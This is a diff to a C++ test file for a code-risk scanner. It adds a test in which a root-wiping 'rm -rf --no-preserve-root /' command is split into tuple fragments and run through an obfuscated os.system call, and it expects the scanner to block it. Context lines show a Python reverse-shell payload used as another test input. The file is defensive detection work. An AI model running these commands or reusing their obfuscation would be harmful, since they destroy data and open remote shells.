@@ -58,6 +58,17 @@ TEST(AssessHidden, IdentifierFragmentsAreJoined) {
   EXPECT_EQ(level("LANGS = ['en', 'de', 'fr']\nAXES = ('x', 'y')\nprint(''.join(LANGS), AXES)\n"), RiskLevel::low);
 }
 
+TEST(AssessHidden, CommandLineFragmentsAreReadWhole) {
+  // A command cut into pieces in a tuple, joined elsewhere (reduce, a helper) and run through a
+  // call reached by its assembled name.
+  EXPECT_EQ(level("import os\nfrom functools import reduce\n"
+                  "PARTS = ('r', 'm', ' -', 'rf', ' --no-', 'preserve-', 'root ')\n"
+                  "run = getattr(os, 'sys' + 'tem')\nrun(reduce(lambda a, b: a + b, PARTS, '') + '/')\n"),
+            RiskLevel::blocked);
+  // Words of a message or short labels are no command.
+  EXPECT_EQ(level("WORDS = ('the ', 'quick ', 'brown ', 'fox')\nprint(''.join(WORDS))\n"), RiskLevel::low);
+}
+
 TEST(AssessHidden, PythonDashCCodeIsRead) {
   EXPECT_EQ(level("import subprocess\nC = \"import os,pty,socket as n;c=n.create_connection(('h',1));"
                   "[os.dup2(c.fileno(),d) for d in (0,1,2)];pty.spawn('/bin/sh')\"\n"
